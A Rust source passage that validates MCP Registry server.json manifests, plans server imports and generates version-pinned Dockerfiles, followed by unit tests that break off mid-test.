//! Server descriptions published for the MCP Registry (`server.json`), turned into what this
//! host needs: where the server comes from, how it speaks MCP and which settings it declares.
//!
//! A `server.json` is untrusted input: every field is checked here before anything is built or
//! started. Only the camelCase schema versions are read (see [`SUPPORTED_SCHEMA_VERSIONS`]); an
//! older or unknown schema is refused by name rather than half-understood. Package identifiers
//! and versions are checked against the package ecosystem's own grammar, so a generated build
//! file never carries a shell word, a version range or an option a package manager would act on.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use url::Url;

use super::settings::{validate_settings, SettingSpec};
use super::{EnvName, ServerId, Transport, DEFAULT_MCP_PATH, MAX_DESCRIPTION_LEN};
use crate::error::{Error, Result};

/// Largest `server.json` read, in bytes.
pub const MAX_SERVER_JSON_BYTES: usize = 256 * 1024;

/// The `server.json` schema versions read (the dated part of the `$schema` URL). Earlier
/// versions used snake_case field names; later ones are refused until they are read here.
pub const SUPPORTED_SCHEMA_VERSIONS: &[&str] =
    &["2025-09-29", "2025-10-11", "2025-10-17", "2025-12-11"];

const SCHEMA_URL_PREFIX: &str = "https://static.modelcontextprotocol.io/schemas/";
const SCHEMA_URL_SUFFIX: &str = "/server.schema.json";
const MAX_PACKAGE_ARGUMENTS: usize = 32;

/// Where an imported server's code comes from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum PackageSource {
    /// A published container image: verified as it is, by digest, without a build.
    Oci {
        /// The reference as published (`registry/repository:tag` or `…@sha256:…`).
        reference: String,
    },
    /// A PyPI package at an exact version, installed when the image is built.
    Pypi {
        /// The project name.
        package: String,
        /// The exact version.
        version: String,
    },
    /// An npm package at an exact version, installed when the image is built.
    Npm {
        /// The package name (scoped or not).
        package: String,
        /// The exact version.
        version: String,
    },
    /// A server someone else runs: verified by handshake only, never launched here.
    Remote {
        /// Its streamable HTTP endpoint (an https URL).
        url: String,
    },
}

impl PackageSource {
    /// The ecosystem's name, as `server.json` spells it.
    pub fn registry_type(&self) -> &'static str {
        match self {
            PackageSource::Oci { .. } => "oci",
            PackageSource::Pypi { .. } => "pypi",
            PackageSource::Npm { .. } => "npm",
            PackageSource::Remote { .. } => "remote",
        }
    }
}

/// Which entry of a `server.json` to import.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum PackageChoice {
    /// The first package of a supported type, preferring `oci`, then `pypi`, then `npm`; the
    /// first remote when there is no package.
    #[default]
    Preferred,
    /// The package at this index of `packages`.
    Package(usize),
    /// The remote at this index of `remotes`.
    Remote(usize),
}

/// A `server.json`, checked and reduced to what an import needs.
#[derive(Debug, Clone, PartialEq)]
pub struct ServerManifest {
    /// The registry name (`io.github.owner/server`).
    pub name: String,
    /// The dated schema version it was written against.
    pub schema_version: String,
    /// Its description.
    pub description: String,
    /// Its version.
    pub version: String,
    /// The repository it says its code is in, and the subfolder of a monorepo.
    pub repository: Option<(Url, Option<String>)>,
    packages: Vec<Value>,
    remotes: Vec<Value>,
}

/// What importing one entry of a `server.json` registers.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ImportPlan {
    /// An id for the server, from the registry name; a caller may choose another.
    pub server_id: ServerId,
    /// The registry name.
    pub registry_name: String,
    /// The server's version.
    pub version: String,
    /// The description.
    pub description: String,
    /// Where the code comes from.
    pub source: PackageSource,
    /// How the image speaks MCP (for a remote: not launched, but probed at its URL).
    pub transport: Transport,
    /// Settings from the package's environment variables (or the remote's headers).
    pub settings: Vec<SettingSpec>,
    /// What the import left out, e.g. runtime options this host decides itself.
    pub notes: Vec<String>,
}

fn invalid(reason: impl Into<String>) -> Error {
    Error::invalid("server_json", reason)
}

fn string_field<'a>(object: &'a Value, field: &str, at: &str) -> Result<Option<&'a str>> {
    match object.get(field) {
        None | Some(Value::Null) => Ok(None),
        Some(Value::String(s)) => Ok(Some(s)),
        Some(_) => Err(invalid(format!("{at}.{field} must be a string"))),
    }
}

fn bool_field(object: &Value, field: &str, at: &str) -> Result<bool> {
    match object.get(field) {
        None | Some(Value::Null) => Ok(false),
        Some(Value::Bool(b)) => Ok(*b),
        Some(_) => Err(invalid(format!("{at}.{field} must be true or false"))),
    }
}

fn array_field<'a>(object: &'a Value, field: &str, at: &str) -> Result<&'a [Value]> {
    match object.get(field) {
        None | Some(Value::Null) => Ok(&[]),
        Some(Value::Array(items)) => Ok(items),
        Some(_) => Err(invalid(format!("{at}.{field} must be an array"))),
    }
}

impl ServerManifest {
    /// Reads a `server.json`.
    ///
    /// # Errors
    /// `InvalidInput { field: "server_json" }` naming what does not fit: over
    /// [`MAX_SERVER_JSON_BYTES`], not JSON, a schema version outside
    /// [`SUPPORTED_SCHEMA_VERSIONS`], a name or description outside the schema's rules, or no
    /// package and no remote.
    pub fn parse(bytes: &[u8]) -> Result<Self> {
        if bytes.len() > MAX_SERVER_JSON_BYTES {
            return Err(invalid(format!(
                "{} bytes is over the {MAX_SERVER_JSON_BYTES}-byte limit",
                bytes.len()
            )));
        }
        let doc: Value =
            serde_json::from_slice(bytes).map_err(|e| invalid(format!("not JSON: {e}")))?;
        if !doc.is_object() {
            return Err(invalid("a server.json is a JSON object"));
        }
        let schema_version = schema_version(string_field(&doc, "$schema", "server")?)?;
        let name =
            string_field(&doc, "name", "server")?.ok_or_else(|| invalid("name is required"))?;
        if !valid_registry_name(name) {
            return Err(invalid(format!(
                "name {:?} is not `namespace/name` (3-200 characters of a-z, A-Z, 0-9, '.', '-', one '/', '_' after it)",
                truncate(name)
            )));
        }
        let description = string_field(&doc, "description", "server")?
            .map(str::trim)
            .filter(|d| !d.is_empty())
            .ok_or_else(|| invalid("description is required"))?;
        if description.chars().count() > MAX_DESCRIPTION_LEN {
            return Err(invalid(format!(
                "description is over {MAX_DESCRIPTION_LEN} characters"
            )));
        }
        let version = string_field(&doc, "version", "server")?
            .ok_or_else(|| invalid("version is required"))?;
        if version.is_empty() || version.len() > 255 || is_version_range(version) {
            return Err(invalid(format!(
                "version {:?} must be one exact version, not a range",
                truncate(version)
            )));
        }
        let repository = match doc.get("repository") {
            None | Some(Value::Null) => None,
            Some(repo) => {
                let url = string_field(repo, "url", "repository")?
                    .ok_or_else(|| invalid("repository.url is required"))?;
                let url = Url::parse(url)
                    .ok()
                    .filter(|u| u.scheme() == "https")
                    .ok_or_else(|| invalid("repository.url must be an https URL"))?;
                let subfolder = string_field(repo, "subfolder", "repository")?
                    .map(|s| clean_subfolder(s).map(str::to_owned))
                    .transpose()?;
                Some((url, subfolder))
            }
        };
        let packages = array_field(&doc, "packages", "server")?.to_vec();
        let remotes = array_field(&doc, "remotes", "server")?.to_vec();
        if packages.is_empty() && remotes.is_empty() {
            return Err(invalid(
                "neither packages nor remotes: nothing says how to run this server",
            ));
        }
        Ok(Self {
            name: name.to_owned(),
            schema_version,
            description: description.to_owned(),
            version: version.to_owned(),
            repository,
            packages,
            remotes,
        })
    }

    /// The import of one entry.
    ///
    /// # Errors
    /// `InvalidInput { field: "server_json" }` for an entry that does not exist, a package type
    /// or transport this host does not run (`nuget`, `mcpb`, `sse`), an identifier or version
    /// outside its ecosystem's grammar, an argument that needs a value at launch, or settings
    /// that do not fit [`SettingSpec`].
    pub fn plan(&self, choice: PackageChoice) -> Result<ImportPlan> {
        let server_id = server_id_from_name(&self.name)?;
        let mut notes = Vec::new();
        let (source, transport, settings) = match choice {
            PackageChoice::Package(i) => {
                let package = self
                    .packages
                    .get(i)
                    .ok_or_else(|| invalid(format!("there is no packages[{i}]")))?;
                plan_package(package, &format!("packages[{i}]"), &mut notes)?
            }
            PackageChoice::Remote(i) => {
                let remote = self
                    .remotes
                    .get(i)
                    .ok_or_else(|| invalid(format!("there is no remotes[{i}]")))?;
                plan_remote(remote, &format!("remotes[{i}]"))?
            }
            PackageChoice::Preferred => {
                let rank = |p: &Value| match p.get("registryType").and_then(Value::as_str) {
                    Some("oci") => Some(0),
                    Some("pypi") => Some(1),
                    Some("npm") => Some(2),
                    _ => None,
                };
                let best = self
                    .packages
                    .iter()
                    .enumerate()
                    .filter_map(|(i, p)| rank(p).map(|r| (r, i)))
                    .min();
                match (best, self.remotes.is_empty()) {
                    (Some((_, i)), _) => {
                        plan_package(&self.packages[i], &format!("packages[{i}]"), &mut notes)?
                    }
                    (None, false) => plan_remote(&self.remotes[0], "remotes[0]")?,
                    (None, true) => {
                        let types: Vec<&str> = self
                            .packages
                            .iter()
                            .filter_map(|p| p.get("registryType").and_then(Value::as_str))
                            .collect();
                        return Err(invalid(format!(
                            "no package of a type this host runs (oci, pypi, npm); found {}",
                            truncate(&types.join(", "))
                        )));
                    }
                }
            }
        };
        validate_settings(&settings)?;
        transport.validate()?;
        Ok(ImportPlan {
            server_id,
            registry_name: self.name.clone(),
            version: self.version.clone(),
            description: self.description.clone(),
            source,
            transport,
            settings,
            notes,
        })
    }
}

type PlannedEntry = (PackageSource, Transport, Vec<SettingSpec>);

fn plan_package(package: &Value, at: &str, notes: &mut Vec<String>) -> Result<PlannedEntry> {
    if !package.is_object() {
        return Err(invalid(format!("{at} must be an object")));
    }
    let registry_type = string_field(package, "registryType", at)?
        .ok_or_else(|| invalid(format!("{at}.registryType is required")))?;
    let identifier = string_field(package, "identifier", at)?
        .ok_or_else(|| invalid(format!("{at}.identifier is required")))?;
    let version = string_field(package, "version", at)?;
    // The package index is this deployment's setting, never the publisher's: a base URL other
    // than the ecosystem's public registry would send the build somewhere else.
    if let Some(base) = string_field(package, "registryBaseUrl", at)? {
        let official = match registry_type {
            "pypi" => ["https://pypi.org"].as_slice(),
            "npm" => ["https://registry.npmjs.org"].as_slice(),
            _ => [].as_slice(),
        };
        if !official.is_empty() && !official.contains(&base.trim_end_matches('/')) {
            return Err(invalid(format!(
                "{at}.registryBaseUrl {:?} is not the public {registry_type} registry; this host installs from its own configured index",
                truncate(base)
            )));
        }
    }
    let need_version = |version: Option<&str>| -> Result<String> {
        version
            .map(str::to_owned)
            .ok_or_else(|| invalid(format!("{at}.version is required for {registry_type}")))
    };
    let source = match registry_type {
        "pypi" => {
            let version = need_version(version)?;
            if !valid_pypi_name(identifier) {
                return Err(invalid(format!(
                    "{at}.identifier {:?} is not a PyPI project name",
                    truncate(identifier)
                )));
            }
            if !valid_pep440_exact(&version) {
                return Err(invalid(format!(
                    "{at}.version {:?} is not one exact PyPI version",
                    truncate(&version)
                )));
            }
            PackageSource::Pypi {
                package: identifier.to_owned(),
                version,
            }
        }
        "npm" => {
            let version = need_version(version)?;
            if !valid_npm_name(identifier) {
                return Err(invalid(format!(
                    "{at}.identifier {:?} is not an npm package name",
                    truncate(identifier)
                )));
            }
            if !valid_semver_exact(&version) {
                return Err(invalid(format!(
                    "{at}.version {:?} is not one exact npm version",
                    truncate(&version)
                )));
            }
            PackageSource::Npm {
                package: identifier.to_owned(),
                version,
            }
        }
        "oci" => {
            if !valid_oci_reference(identifier) {
                return Err(invalid(format!(
                    "{at}.identifier {:?} is not an image reference with a tag or digest",
                    truncate(identifier)
                )));
            }
            PackageSource::Oci {
                reference: identifier.to_owned(),
            }
        }
        other => {
            return Err(invalid(format!(
                "{at}.registryType {:?} is not run by this host (oci, pypi, npm)",
                truncate(other)
            )))
        }
    };
    if !array_field(package, "runtimeArguments", at)?.is_empty() {
        notes.push(format!(
            "{at}.runtimeArguments ignored: this host decides how containers run"
        ));
    }
    let arguments = package_arguments(package, at)?;
    let transport_value = package
        .get("transport")
        .ok_or_else(|| invalid(format!("{at}.transport is required")))?;
    let transport = match string_field(transport_value, "type", &format!("{at}.transport"))? {
        Some("stdio") => {
            let mut command = match &source {
                // `uvx` and `npx` run the executable named like the package; the image installs
                // it, so the same name starts it.
                PackageSource::Pypi { package, .. } => vec![package.clone()],
                PackageSource::Npm { package, .. } => vec![npm_bin_name(package).to_owned()],
                // An image's entrypoint is not known before it is pulled: an OCI package over
                // stdio names its command in its arguments.
                PackageSource::Oci { .. } | PackageSource::Remote { .. } => Vec::new(),
            };
            command.extend(arguments);
            if command.is_empty() {
                return Err(invalid(format!(
                    "{at}: an oci package over stdio needs packageArguments naming the command to run"
                )));
            }
            Transport::Stdio { command }
        }
        Some("streamable-http") => {
            let url = string_field(transport_value, "url", &format!("{at}.transport"))?
                .ok_or_else(|| invalid(format!("{at}.transport.url is required")))?;
            let (port, path) = local_http_endpoint(url, &format!("{at}.transport.url"))?;
            if !arguments.is_empty() {
                notes.push(format!(
                    "{at}.packageArguments are passed by the image's own entrypoint only for stdio; ignored"
                ));
            }
            Transport::Http { port, path }
        }
        Some("sse") => {
            return Err(invalid(format!(
                "{at}.transport sse is the deprecated HTTP+SSE transport; this host speaks streamable HTTP"
            )))
        }
        Some(other) => {
            return Err(invalid(format!(
                "{at}.transport.type {:?} is unknown",
                truncate(other)
            )))
        }
        None => return Err(invalid(format!("{at}.transport.type is required"))),
    };
    let settings = array_field(package, "environmentVariables", at)?
        .iter()
        .enumerate()
        .map(|(i, v)| setting(v, &format!("{at}.environmentVariables[{i}]")))
        .collect::<Result<Vec<_>>>()?;
    Ok((source, transport, settings))
}

fn plan_remote(remote: &Value, at: &str) -> Result<PlannedEntry> {
    match string_field(remote, "type", at)? {
        Some("streamable-http") => {}
        Some("sse") => {
            return Err(invalid(format!(
            "{at}.type sse is the deprecated HTTP+SSE transport; this host speaks streamable HTTP"
        )))
        }
        _ => return Err(invalid(format!("{at}.type must be streamable-http"))),
    }
    let raw =
        string_field(remote, "url", at)?.ok_or_else(|| invalid(format!("{at}.url is required")))?;
    if raw.contains('{') {
        return Err(invalid(format!(
            "{at}.url has template variables; import a remote with its URL filled in"
        )));
    }
    let url = Url::parse(raw)
        .ok()
        .filter(|u| u.scheme() == "https" && u.host_str().is_some() && u.username().is_empty())
        .ok_or_else(|| invalid(format!("{at}.url must be an https URL")))?;
    let path = if url.path().is_empty() {
        "/".to_owned()
    } else {
        url.path().to_owned()
    };
    let settings = array_field(remote, "headers", at)?
        .iter()
        .enumerate()
        .map(|(i, v)| setting_from_header(v, &format!("{at}.headers[{i}]")))
        .collect::<Result<Vec<_>>>()?;
    Ok((
        PackageSource::Remote {
            url: url.to_string(),
        },
        Transport::Http { port: 443, path },
        settings,
    ))
}

/// `packageArguments` with fixed values, in order; one that needs a value at launch is refused.
fn package_arguments(package: &Value, at: &str) -> Result<Vec<String>> {
    let items = array_field(package, "packageArguments", at)?;
    if items.len() > MAX_PACKAGE_ARGUMENTS {
        return Err(invalid(format!(
            "{at}.packageArguments: at most {MAX_PACKAGE_ARGUMENTS}"
        )));
    }
    let mut out = Vec::new();
    for (i, item) in items.iter().enumerate() {
        let here = format!("{at}.packageArguments[{i}]");
        let value = string_field(item, "value", &here)?.or(string_field(item, "default", &here)?);
        let required = bool_field(item, "isRequired", &here)?;
        match (string_field(item, "type", &here)?, value) {
            (Some("positional"), Some(value)) => out.push(value.to_owned()),
            (Some("named"), value) => {
                let name = string_field(item, "name", &here)?
                    .ok_or_else(|| invalid(format!("{here}.name is required")))?;
                if !name.starts_with('-') || name.len() > 128 || name.contains(char::is_whitespace) {
                    return Err(invalid(format!("{here}.name must be a --flag")));
                }
                match value {
                    Some(value) => {
                        out.push(name.to_owned());
                        out.push(value.to_owned());
                    }
                    None if required => {
                        return Err(invalid(format!(
                            "{here} needs a value at launch; this host passes settings as environment variables only"
                        )))
                    }
                    None => {}
                }
            }
            (Some("positional"), None) if required => {
                return Err(invalid(format!(
                    "{here} needs a value at launch; this host passes settings as environment variables only"
                )))
            }
            (Some("positional"), None) => {}
            _ => return Err(invalid(format!("{here}.type must be positional or named"))),
        }
    }
    if out.iter().any(|a| a.len() > 4096 || a.contains('\0')) {
        return Err(invalid(format!(
            "{at}.packageArguments: values of at most 4096 bytes without NUL"
        )));
    }
    Ok(out)
}

fn setting(value: &Value, at: &str) -> Result<SettingSpec> {
    let name = string_field(value, "name", at)?
        .ok_or_else(|| invalid(format!("{at}.name is required")))?;
    let name = EnvName::new(name).map_err(|_| {
        invalid(format!(
            "{at}.name {:?} is not an environment variable name",
            truncate(name)
        ))
    })?;
    let secret = bool_field(value, "isSecret", at)?;
    let fixed = string_field(value, "value", at)?;
    let default = string_field(value, "default", at)?;
    SettingSpec::new(
        name,
        string_field(value, "description", at)?.map(str::to_owned),
        bool_field(value, "isRequired", at)?,
        secret,
        // A secret's default is dropped rather than stored in plain text.
        if secret {
            None
        } else {
            fixed.or(default).map(str::to_owned)
        },
    )
    .map_err(|e| invalid(format!("{at}: {e}")))
}

/// A remote's header becomes a setting named like an environment variable (`X-Api-Key` →
/// `X_API_KEY`), given to the probe as that header.
fn setting_from_header(value: &Value, at: &str) -> Result<SettingSpec> {
    let name = string_field(value, "name", at)?
        .ok_or_else(|| invalid(format!("{at}.name is required")))?;
    let env = name.replace('-', "_").to_ascii_uppercase();
    let mut header = value.clone();
    if let Some(object) = header.as_object_mut() {
        object.insert("name".into(), Value::String(env));
    }
    setting(&header, at)
}

/// Port and path of a package's own streamable HTTP endpoint: a loopback or any-address URL
/// (the package listens inside its container), with `{placeholders}` not allowed.
fn local_http_endpoint(raw: &str, at: &str) -> Result<(u16, String)> {
    if raw.contains('{') {
        return Err(invalid(format!(
            "{at} has template variables; this host needs a fixed port and path"
        )));
    }
    let url = Url::parse(raw).map_err(|_| invalid(format!("{at} is not a URL")))?;
    let local = matches!(
        url.host_str(),
        Some("localhost" | "127.0.0.1" | "0.0.0.0" | "[::1]" | "[::]")
    );
    if url.scheme() != "http" || !local {
        return Err(invalid(format!(
            "{at} must be http://localhost:PORT/PATH, where the package listens in its container"
        )));
    }
    let port = url.port_or_known_default().unwrap_or(80);
    let path = match url.path() {
        "" | "/" => DEFAULT_MCP_PATH.to_owned(),
        p => p.to_owned(),
    };
    Ok((port, path))
}

fn schema_version(schema: Option<&str>) -> Result<String> {
    let schema = schema.ok_or_else(|| {
        invalid(format!(
            "$schema is required (one of {})",
            SUPPORTED_SCHEMA_VERSIONS.join(", ")
        ))
    })?;
    let version = schema
        .strip_prefix(SCHEMA_URL_PREFIX)
        .and_then(|rest| rest.strip_suffix(SCHEMA_URL_SUFFIX))
        .filter(|v| SUPPORTED_SCHEMA_VERSIONS.contains(v))
        .ok_or_else(|| {
            invalid(format!(
                "$schema {:?} is not a schema version this host reads ({})",
                truncate(schema),
                SUPPORTED_SCHEMA_VERSIONS.join(", ")
            ))
        })?;
    Ok(version.to_owned())
}

/// A server id from a registry name: the part after the slash, lower-cased, with every run of
/// other characters turned into one `-`.
fn server_id_from_name(name: &str) -> Result<ServerId> {
    let tail = name.rsplit('/').next().unwrap_or(name);
    let mut id = String::new();
    for c in tail.chars() {
        if c.is_ascii_alphanumeric() {
            id.push(c.to_ascii_lowercase());
        } else if !id.is_empty() && !id.ends_with('-') {
            id.push('-');
        }
    }
    let id: String = id.trim_end_matches('-').chars().take(63).collect();
    ServerId::new(id.trim_end_matches('-')).map_err(|_| {
        invalid(format!(
            "no server id can be made from {:?}",
            truncate(name)
        ))
    })
}

fn valid_registry_name(name: &str) -> bool {
    let Some((namespace, server)) = name.split_once('/') else {
        return false;
    };
    (3..=200).contains(&name.len())
        && !namespace.is_empty()
        && !server.is_empty()
        && namespace
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
        && server
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// `^1.2`, `~1.2`, `>=1`, `1.x`, `1.*`, `latest`, `a || b`: anything but one version.
fn is_version_range(v: &str) -> bool {
    v.eq_ignore_ascii_case("latest")
        || v.contains(['^', '~', '>', '<', '=', '*', '|', ',', ' '])
        || v.split('.').any(|part| part.eq_ignore_ascii_case("x"))
}

/// A PyPI project name (PEP 508 names): letters, digits, `.`, `_`, `-`, alphanumeric at both ends.
fn valid_pypi_name(name: &str) -> bool {
    let bytes = name.as_bytes();
    (1..=128).contains(&name.len())
        && bytes[0].is_ascii_alphanumeric()
        && bytes[bytes.len() - 1].is_ascii_alphanumeric()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// One exact public PEP 440 version: `N(.N)*` with optional `aN|bN|rcN`, `.postN`, `.devN`.
fn valid_pep440_exact(v: &str) -> bool {
    static PATTERN: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let pattern = PATTERN.get_or_init(|| {
        regex::Regex::new(r"^[0-9]{1,9}(\.[0-9]{1,9}){0,9}((a|b|rc)[0-9]{1,9})?(\.post[0-9]{1,9})?(\.dev[0-9]{1,9})?$")
            .expect("a valid pattern")
    });
    pattern.is_match(v)
}

/// One exact semantic version: `MAJOR.MINOR.PATCH` with optional pre-release and build parts.
fn valid_semver_exact(v: &str) -> bool {
    static PATTERN: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let pattern = PATTERN.get_or_init(|| {
        regex::Regex::new(r"^(0|[1-9][0-9]{0,8})\.(0|[1-9][0-9]{0,8})\.(0|[1-9][0-9]{0,8})(-[0-9A-Za-z.-]{1,64})?(\+[0-9A-Za-z.-]{1,64})?$")
            .expect("a valid pattern")
    });
    pattern.is_match(v)
}

/// An npm package name: optional `@scope/`, lower-case letters, digits, `.`, `_`, `-`, at most
/// 214 characters, not starting with `.` or `_`.
fn valid_npm_name(name: &str) -> bool {
    let part_ok = |p: &str| {
        !p.is_empty()
            && !p.starts_with(['.', '_'])
            && p.chars().all(|c| {
                c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '.' | '_' | '-')
            })
    };
    if name.len() > 214 {
        return false;
    }
    match name.strip_prefix('@') {
        Some(scoped) => scoped
            .split_once('/')
            .is_some_and(|(scope, pkg)| part_ok(scope) && part_ok(pkg)),
        None => part_ok(name),
    }
}

/// The executable an npm package installs under its own name (`@scope/pkg` → `pkg`).
fn npm_bin_name(package: &str) -> &str {
    package.rsplit('/').next().unwrap_or(package)
}

/// `registry[:port]/path[:tag][@sha256:<64 hex>]` with a tag or a digest.
fn valid_oci_reference(reference: &str) -> bool {
    static PATTERN: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let pattern = PATTERN.get_or_init(|| {
        regex::Regex::new(
            r"^[a-z0-9]([a-z0-9.-]*[a-z0-9])?(:[0-9]{1,5})?(/[a-z0-9]+([._-][a-z0-9]+)*)+(:[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?(@sha256:[a-f0-9]{64})?$",
        )
        .expect("a valid pattern")
    });
    reference.len() <= 512
        && pattern.is_match(reference)
        && (reference.contains("@sha256:")
            || reference
                .rsplit('/')
                .next()
                .is_some_and(|last| last.contains(':')))
}

/// A clean relative subfolder: no leading `/`, no `.` or `..` segment, no empty segment.
fn clean_subfolder(raw: &str) -> Result<&str> {
    let trimmed = raw.trim_end_matches('/');
    let clean = !trimmed.is_empty()
        && trimmed.len() <= 1024
        && !trimmed.starts_with('/')
        && trimmed
            .split('/')
            .all(|s| !s.is_empty() && s != "." && s != ".." && !s.contains(['\\', '\0']));
    if clean {
        Ok(trimmed)
    } else {
        Err(invalid(format!(
            "repository.subfolder {:?} must be a clean relative path",
            truncate(raw)
        )))
    }
}

/// Cuts echoed input to 80 characters, escaped, so an error never carries a large or hostile value.
fn truncate(raw: &str) -> String {
    let cut: String = raw.chars().take(80).collect();
    cut.escape_debug().to_string()
}

/// Where a generated build installs packages from: the deployment's choice, never the
/// publisher's.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct PackageBuildSettings {
    /// The image a PyPI package is installed into (Python 3 with `pip`).
    pub python_base_image: String,
    /// The image an npm package is installed into (Node.js with `npm`).
    pub node_base_image: String,
    /// The PyPI index, when not the public one.
    pub pip_index_url: Option<Url>,
    /// Whether the build context carries `ca-certificates.crt` for the package index (where the
    /// index answers only with the host's CA bundle).
    pub with_ca_bundle: bool,
}

impl PackageBuildSettings {
    /// The public images (`python:3.12-slim`, `node:22-slim`), the public index, no CA bundle.
    pub fn default_images() -> Self {
        Self {
            python_base_image: "python:3.12-slim".to_owned(),
            node_base_image: "node:22-slim".to_owned(),
            pip_index_url: None,
            with_ca_bundle: false,
        }
    }
}

impl ImportPlan {
    /// The Dockerfile that installs a `pypi` or `npm` package at its exact version when the
    /// image is built (nothing is installed when a container starts); `None` for `oci` and
    /// remotes, which are not built.
    ///
    /// Every value written into it was checked against its ecosystem's grammar by
    /// [`ServerManifest::plan`]; the command is written in JSON (exec) form.
    pub fn dockerfile(&self, build: &PackageBuildSettings) -> Option<String> {
        let cmd = match &self.transport {
            Transport::Stdio { command } => command.clone(),
            Transport::Http { .. } => match &self.source {
                PackageSource::Pypi { package, .. } => vec![package.clone()],
                PackageSource::Npm { package, .. } => vec![npm_bin_name(package).to_owned()],
                _ => return None,
            },
        };
        let cmd = serde_json::to_string(&cmd).unwrap_or_else(|_| "[]".to_owned());
        let ca = if build.with_ca_bundle {
            "COPY ca-certificates.crt /etc/ssl/certs/toolshed-build-ca.crt\n"
        } else {
            ""
        };
        let mut env: BTreeMap<&str, String> = BTreeMap::new();
        let install = match &self.source {
            PackageSource::Pypi { package, version } => {
                if build.with_ca_bundle {
                    env.insert("PIP_CERT", "/etc/ssl/certs/toolshed-build-ca.crt".into());
                }
                if let Some(index) = &build.pip_index_url {
                    env.insert("PIP_INDEX_URL", index.to_string());
                }
                format!(
                    "FROM {base}\n{ca}{env}RUN python3 -m venv /opt/server \\\n && /opt/server/bin/pip install --no-cache-dir --disable-pip-version-check '{package}=={version}'\nENV PATH=/opt/server/bin:$PATH\n",
                    base = build.python_base_image,
                    env = env_lines(&env),
                )
            }
            PackageSource::Npm { package, version } => {
                if build.with_ca_bundle {
                    env.insert(
                        "NODE_EXTRA_CA_CERTS",
                        "/etc/ssl/certs/toolshed-build-ca.crt".into(),
                    );
                }
                format!(
                    "FROM {base}\n{ca}{env}RUN npm install --global --omit=dev '{package}@{version}'\n",
                    base = build.node_base_image,
                    env = env_lines(&env),
                )
            }
            PackageSource::Oci { .. } | PackageSource::Remote { .. } => return None,
        };
        Some(format!(
            "# Installs {registry} {name} at its exact version; generated from server.json.\n{install}USER 65532:65532\nCMD {cmd}\n",
            registry = self.source.registry_type(),
            name = self.registry_name,
        ))
    }
}

fn env_lines(env: &BTreeMap<&str, String>) -> String {
    env.iter()
        .map(|(k, v)| format!("ENV {k}={}\n", serde_json::Value::String(v.clone())))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const SCHEMA: &str =
        "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json";

    fn manifest(extra: Value) -> Value {
        let mut doc = json!({
            "$schema": SCHEMA,
            "name": "io.github.example/weather-server",
            "description": "Weather forecasts",
            "version": "1.2.0",
        });
        for (k, v) in extra.as_object().unwrap() {
            doc[k] = v.clone();
        }
        doc
    }

    fn parse(doc: Value) -> Result<ServerManifest> {
        ServerManifest::parse(doc.to_string().as_bytes())
    }

    fn pypi_fetch() -> Value {
        json!({"packages": [{
            "registryType": "pypi", "identifier": "mcp-server-fetch", "version": "2025.4.7",
            "transport": {"type": "stdio"},
            "packageArguments": [{"type": "named", "name": "--user-agent", "value": "toolshed"}],
            "environmentVariables": [
                {"name": "FETCH_TOKEN", "description": "A token", "isRequired": true, "isSecret": true, "default": "leaked"},
                {"name": "FETCH_TIMEOUT", "default": "30"}
            ]
        }]})
    }

    #[test]
    fn a_pypi_stdio_package_becomes_a_bridge_command_and_settings() {
        let plan = parse(manifest(pypi_fetch()))
            .unwrap()
            .plan(PackageChoice::Preferred)
            .unwrap();
        assert_eq!(plan.server_id.as_str(), "weather-server");
        assert_eq!(
            plan.source,
            PackageSource::Pypi {
                package: "mcp-server-fetch".into(),
                version: "2025.4.7".into()
            }
        );
        assert_eq!(
            plan.transport,
            Transport::Stdio {
                command: vec![
                    "mcp-server-fetch".into(),
                    "--user-agent".into(),
                    "toolshed".into()
                ]
            }
        );
        assert_eq!(plan.settings.len(), 2);
        let token = &plan.settings[0];
        assert!(token.secret && token.required);
        assert_eq!(token.default, None, "a secret's default is never kept");
        assert_eq!(plan.settings[1].default.as_deref(), Some("30"));
    }

    #[test]
    fn the_generated_dockerfile_pins_the_version_and_runs_unprivileged() {
        let plan = parse(manifest(pypi_fetch()))
            .unwrap()
            .plan(PackageChoice::Preferred)
            .unwrap();
        let build = PackageBuildSettings {
            python_base_image: "toolshed-test/python:3.11-bookworm".into(),
            with_ca_bundle: true,
            pip_index_url: Some(Url::parse("https://pypi.internal.example/simple/").unwrap()),
            ..Default::default()
        };
        let dockerfile = plan.dockerfile(&build).unwrap();
        assert!(dockerfile.starts_with("# Installs pypi io.github.example/weather-server"));
        assert!(dockerfile.contains("FROM toolshed-test/python:3.11-bookworm\n"));
        assert!(dockerfile.contains("'mcp-server-fetch==2025.4.7'"));
        assert!(
            dockerfile.contains("ENV PIP_INDEX_URL=\"https://pypi.internal.example/simple/\"\n")
        );
        assert!(dockerfile.contains("ENV PIP_CERT="));
        assert!(dockerfile.contains("USER 65532:65532\n"));
        assert!(dockerfile.ends_with("CMD [\"mcp-server-fetch\",\"--user-agent\",\"toolshed\"]\n"));
        assert!(!dockerfile.contains("leaked"));
    }

    #[test]
    fn oci_is_preferred_and_not_built() {
        let doc = manifest(json!({"packages": [
            {"registryType": "pypi", "identifier": "weather", "version": "1.0.0", "transport": {"type": "stdio"}},
            {"registryType": "oci", "identifier": "ghcr.io/example/weather:1.2.0",
             "transport": {"type": "streamable-http", "url": "http://localhost:8080/mcp"}}
        ]}));
        let plan = parse(doc).unwrap().plan(PackageChoice::Preferred).unwrap();
        assert_eq!(
            plan.source,
            PackageSource::Oci {
                reference: "ghcr.io/example/weather:1.2.0".into()
            }
        );
        assert_eq!(
            plan.transport,
